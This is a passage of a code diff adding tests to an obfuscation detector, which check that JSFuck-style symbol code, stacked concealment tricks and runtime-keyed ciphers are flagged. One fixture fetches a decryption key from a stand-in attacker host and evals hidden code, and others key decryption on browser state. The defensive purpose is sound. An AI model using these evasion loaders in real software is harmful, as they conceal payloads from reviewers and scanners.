@@ -37,7 +37,46 @@ describe('obfuscation', () => {
     }
   });
 
+  it('is named for code of symbols alone, in both manners', () => {
+    const dollars = Array.from({ length: 120 }, (_, at) => `$.${at % 2 ? '_$$' : '$_$'}`).join('+');
+    assert.deepEqual(kinds(`$=~[];$={_$$:++$,$_$:++$};$.$(${dollars})()`), ['jsfuck']);
+    const faces = Array.from({ length: 120 }, () => '(ﾟДﾟ)[ﾟεﾟ]').join('+');
+    assert.deepEqual(kinds(`ﾟεﾟ='o';(ﾟДﾟ)={};(ﾟДﾟ)['_'](${faces})`), ['jsfuck']);
+  });
+
+  it('is named for several faint techniques together, and for none of them alone', () => {
+    const faint = [
+      String.raw`const note = '\x72\x61\x69\x6e\x79';`,
+      "const _0x1a2b = ['log']; const _0x2b3c = 4; const _0x3c4d = 5;",
+      "console['l' + 'og'](7);",
+      'use(String.fromCharCode(119, 105, 110, 100));',
+      "use(atob('c3VubnkgZGF5cw=='));",
+      "use(['s', 'n', 'o', 'w'].join(''));",
+      'setInterval(() => { (function () { debugger; })(); }, 4000);',
+    ];
+    for (const source of faint) assert.deepEqual(kinds(source), [], source);
+    for (let at = 2; at < faint.length; at += 1) {
+      assert.deepEqual(kinds(faint.slice(at - 2, at + 1).join('\n')), ['concealment']);
+    }
+  });
+
+  it('is named for a cipher that is run and whose key only the browser has', () => {
+    const masked = Array.from(code, (letter) => letter.charCodeAt(0) ^ 23).join();
+    const base64 = Buffer.from(code).toString('base64');
+    for (const source of [
+      `const d = [${masked}]; eval(d.map((x) => String.fromCharCode(x ^ new Date().getFullYear() % 100)).join(''))`,
+      `class Box { open(t, k) { let o = ''; for (const c of atob(t)) o += String.fromCharCode(c.charCodeAt(0) ^ k); return o; } } Function(new Box().open('${base64}', navigator.languages.length))()`,
+      `function turn(t, k) { return atob(t).split('').map((c) => String.fromCharCode(c.charCodeAt(0) - k)).join(''); } fetch('https://keys.attacker.dev').then((a) => a.json()).then((k) => (0, eval)(turn('${base64}', k)))`,
+    ]) {
+      assert.ok(kinds(source).includes('sealed-code'), source);
+    }
+  });
+
   const honest: readonly [string, string][] = [
+    [
+      'a template compiler with an icon font',
+      `const icon = '${'d09GRgABAAAAA'.repeat(20)}'; use(atob(icon)); function compile(t) { let body = 'return ""'; for (const part of t.split('<%')) body += '+' + JSON.stringify(part); return new Function('data', body); }`,
+    ],
     [
       'code that is put together from lines',
       `new Function('data', [${code
